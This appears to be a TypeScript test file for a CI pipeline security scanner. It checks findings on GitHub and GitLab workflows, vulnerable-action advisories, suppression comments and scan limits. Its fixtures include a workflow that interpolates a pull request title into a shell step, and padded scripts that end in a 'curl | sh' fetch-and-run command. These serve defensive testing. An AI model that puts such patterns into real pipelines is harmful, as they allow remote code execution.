// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from 'vitest';
import { auditPipelines, readPipelines } from './audit.ts';
import { pipelineChecks } from './checks/index.ts';
import { manifestResources } from './manifest-resources.ts';
import type { PipelineCheck, PipelineFault } from './pipeline-check.ts';
import { PipelineSet } from './pipeline-set.ts';

function faultsOf(check: PipelineCheck, text: string): readonly PipelineFault[] {
  const file = { path: check.example?.path ?? '', text };
  const { pipelines, problems } = readPipelines([file]);
  expect(problems).toEqual([]);
  const context = {
    set: new PipelineSet(pipelines),
    files: [file],
    resources: () => manifestResources([file]),
    textAt: () => text,
    ephemeralRunners: new Set<string>(),
  };
  return [...pipelines.flatMap((pipeline) => check.run(pipeline, context)), ...(check.runOnTarget?.(context) ?? [])];
}

describe('checks of the common model', () => {
  for (const check of pipelineChecks.filter(({ example }) => example !== undefined)) {
    it(`${check.id} finds its bad example and lets the good one pass`, () => {
      const bad = faultsOf(check, check.example?.bad ?? '');
      const good = faultsOf(check, check.example?.good ?? '');

      expect(bad.length).toBeGreaterThan(0);
      expect(bad.every(({ locations }) => locations[0].line !== undefined)).toBe(true);
      expect(good).toEqual([]);
    });
  }

  it('have ids, titles and advice, and say which systems they look at', () => {
    expect(new Set(pipelineChecks.map(({ id }) => id)).size).toBe(pipelineChecks.length);
    for (const { id, title, why, remediation, systems, example, needs } of pipelineChecks) {
      expect(
        [title, why, remediation].every((text) => text.length > 10),
        id,
      ).toBe(true);
      expect(systems.length, id).toBeGreaterThan(0);
      expect(example !== undefined || needs !== undefined, id).toBe(true);
    }
  });

  it('of components known to be vulnerable ask the database that is handed in', async () => {
    const text =
      'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/deploy@v1.2.0\n';
    const advisories = {
      advisoriesOf: async (slug: string, version: string) =>
        slug === 'acme/deploy' && version === 'v1.2.0'
          ? [{ id: 'GHSA-0000-0000-0000', severity: 'high' as const, summary: 'leaks the token', fixed: '1.3.0' }]
          : [],
    };

    const audit = await auditPipelines([{ path: '.github/workflows/a.yml', text }], { profile: 'poutine', advisories });

    expect(audit.findings.map(({ message, severity }) => [severity, message])).toEqual([
      ['high', 'acme/deploy@v1.2.0 has GHSA-0000-0000-0000: leaks the token; fixed in 1.3.0'],
    ]);
  });

  it('without a database say that they did not look', async () => {
    const audit = await auditPipelines([{ path: '.github/workflows/a.yml', text: 'on: push\njobs: {}\n' }]);

    expect(audit.notLookedAt.map(({ check }) => check)).toContain('known-vulnerable-component');
  });

  it('of creators take the list of the user', async () => {
    const text =
      'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/deploy@v1\n      - uses: actions/checkout@v4\n';

    const audit = await auditPipelines([{ path: '.github/workflows/a.yml', text }], {
      profile: 'poutine',
      verifiedCreators: new Set(['actions']),
    });

    expect(audit.findings.map(({ id, locations }) => `${id}:${locations[0]?.line}`)).toEqual(['unverified-creator:7']);
  });
});

describe('joining findings', () => {
  const bad =
    'on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n';

  it('keeps one finding for one concern at one place, with the names of all', async () => {
    const audit = await auditPipelines([{ path: '.github/workflows/a.yml', text: bad }]);

    const named = audit.findings.filter(({ aliases }) => aliases.includes('poutine/injection'));
    expect(named).toHaveLength(1);
    expect(named[0]?.aliases).toEqual(expect.arrayContaining(['poutine/injection', 'zizmor/template-injection']));
  });

  it('honours our comments and those of zizmor', async () => {
    const ours = bad.replace('title }}"', 'title }}" # landwaiter: ignore[script-injection]');
    const theirs = bad.replace('title }}"', 'title }}" # zizmor: ignore[template-injection]');

    const first = await auditPipelines([{ path: '.github/workflows/a.yml', text: ours }], { profile: 'poutine' });
    const second = await auditPipelines([{ path: '.github/workflows/a.yml', text: theirs }]);
    const all = await auditPipelines([{ path: '.github/workflows/a.yml', text: ours }]);

    expect(first.findings).toEqual([]);
    expect(first.suppressed.map(({ by }) => by)).toEqual(['comment']);
    expect(all.findings.filter(({ principle }) => principle === 'injection').map(({ id }) => id)).toEqual([
      'dangerous-triggers',
    ]);
    expect(second.findings.filter(({ aliases }) => aliases.includes('poutine/injection'))).toEqual([]);
  });
});

describe('scripts that are longer than checks look at', () => {
  it.each([
    ['a long line', `echo ${'x'.repeat(6_000)}; curl https://files.example/x | sh`],
    [
      'a line of many continuations',
      `echo ${`${'x'.repeat(100)} \\\n`.repeat(60)} ; curl https://files.example/x | sh`,
    ],
    ['many lines', `${'echo a\n'.repeat(20_000)}curl https://files.example/x | sh`],
  ])('hid what stands behind: %s', async (_what, script) => {
    const text = JSON.stringify({ job: { script: [script] } });
    const { problems } = await auditPipelines([{ path: '.gitlab-ci.yml', text }]);

    expect(problems.filter(({ kind }) => kind === 'limit').map(({ hidesFindings }) => hidesFindings)).toEqual([true]);
  });
});
